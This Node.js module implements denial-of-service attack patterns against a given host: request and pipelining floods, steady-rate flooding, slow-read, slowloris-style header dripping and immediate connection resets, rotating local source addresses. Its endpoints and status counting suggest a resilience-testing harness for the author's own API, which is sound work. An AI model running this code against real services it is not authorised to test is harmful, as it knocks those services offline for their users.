// Functions that send the requests of an attack until the process ends. Their parameter `target` is
// { hostname, port, localAddresses, count(status) }. Connections use the local addresses in turn.
import { connect } from 'node:net'
import { followResponses } from './responses.mjs'

const DRIP_MS = 1_000
const TURN_MS = 5
const REOPEN_MS = 20
/** A steady sender skips requests while this number of connections, or more, wait for responses. */
const STEADY_CONNECTIONS = 2_000
/** Requests that a pipelining client sends in one write. */
const BATCH = 100

/** Number of connections so far. */
let connectionsMade = 0

/** Each connection sends the next request when it has the response to the previous one. */
export function sendAsFastAsPossible(target, { path, key, connections, fields, message }) {
  let next = 0
  for (let opened = 0; opened < connections; opened += 1) {
    keepOpen(target, (socket) => {
      const send = () => socket.write(requestText(target, { path, key, fields, message }, next++))
      followResponses(socket, (status) => {
        target.count(status)
        send()
      })
      send()
    })
  }
}

/** Sends at a steady rate, whether or not there are responses. */
export function sendSteadily(target, { path, key, rate }) {
  const began = performance.now()
  const free = []
  let open = 0
  let sent = 0
  const send = () => {
    const n = sent++
    const socket = free.pop()
    if (socket) return socket.write(requestText(target, { path, key }, n))
    if (open >= STEADY_CONNECTIONS) return target.count('unsent')
    open += 1
    const opened = connectTo(target)
    followResponses(opened, (status) => {
      target.count(status)
      free.push(opened)
    })
    opened.on('close', () => {
      open -= 1
      if (free.includes(opened)) free.splice(free.indexOf(opened), 1)
    })
    return opened.write(requestText(target, { path, key }, n))
  }
  setInterval(() => {
    while (sent < ((performance.now() - began) / 1_000) * rate) send()
  }, TURN_MS)
}

/** Sends all requests in one write, closes the connection after `staysMs`, and starts again. */
export function pipelineAndLeave(target, { path, key, requests, staysMs }) {
  let next = 0
  const send = () => {
    const socket = connectTo(target)
    followResponses(socket, target.count)
    socket.write(Array.from({ length: requests }, () => requestText(target, { path, key }, next++)).join(''))
    setTimeout(() => {
      socket.destroy()
      send()
    }, staysMs)
  }
  send()
}

/** Sends as many requests as the connection accepts, regardless of the responses. */
export function pipeline(target, { path, connections, isReading = true }) {
  for (let opened = 0; opened < connections; opened += 1) {
    keepOpen(target, (socket) => {
      if (isReading) followResponses(socket, target.count)
      else socket.pause()
      let next = 0
      const fill = () => {
        const batch = Array.from({ length: BATCH }, () => requestText(target, { path }, next++)).join('')
        if (socket.write(batch)) setImmediate(fill)
        else socket.once('drain', fill)
      }
      fill()
    })
  }
}

/** Sends several requests on each connection and reads nothing. */
export function readSlowly(target, { path, key, connections, requests, fields }) {
  let next = 0
  for (let opened = 0; opened < connections; opened += 1) {
    keepOpen(target, (socket) => {
      socket.pause()
      socket.write(Array.from({ length: requests }, () => requestText(target, { path, key, fields }, next++)).join(''))
    })
  }
}

/** Sends one byte of a header per second. */
export function dripHeaders(target, { connections }) {
  for (let opened = 0; opened < connections; opened += 1) {
    keepOpen(target, (socket) => {
      followResponses(socket, target.count)
      socket.write('GET /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ')
      const drip = setInterval(() => socket.write('a'), DRIP_MS)
      socket.on('close', () => clearInterval(drip))
    })
  }
}

/** Connects, sends the beginning of a request and resets the connection. */
export function closeAtOnce(target, { connections }) {
  for (let opened = 0; opened < connections; opened += 1) {
    keepOpen(target, (socket) => {
      target.count('connected')
      socket.write('GET /v1/people HTTP/1.1\r\nHost: a\r\n', () => socket.resetAndDestroy())
    })
  }
}

/** Opens a connection, and opens a new one whenever it closes. */
function keepOpen(target, begin) {
  const socket = connectTo(target)
  let isConnected = false
  socket.once('connect', () => {
    isConnected = true
    begin(socket)
  })
  socket.once('close', () => {
    if (isConnected) keepOpen(target, begin)
    else setTimeout(() => keepOpen(target, begin), REOPEN_MS)
  })
}

function connectTo({ hostname, port, localAddresses }) {
  const localAddress = localAddresses[connectionsMade++ % localAddresses.length]
  const socket = connect({ port: Number(port), host: hostname, localAddress })
  socket.setNoDelay(true)
  socket.on('error', () => undefined)
  return socket
}

/**
 * @param key an API key, a function that returns the key for the nth request, or undefined
 * @param fields additional header lines, or a function that returns them for the nth request
 * @param message for a POST: returns the header lines and the body of the nth request
 */
function requestText({ hostname }, { path, key, fields = '', message }, n) {
  const value = typeof key === 'function' ? key(n) : key
  const keyField = value === undefined ? '' : `X-API-Key: ${value}\r\n`
  const posted = message?.(n)
  const ownFields = typeof fields === 'function' ? fields(n) : fields
  const method = path(n) === '/mcp' || posted ? 'POST' : 'GET'
  return `${method} ${path(n)} HTTP/1.1\r\nHost: ${hostname}\r\n${keyField}${ownFields}${posted?.fields ?? ''}\r\n${posted?.body ?? ''}`
}
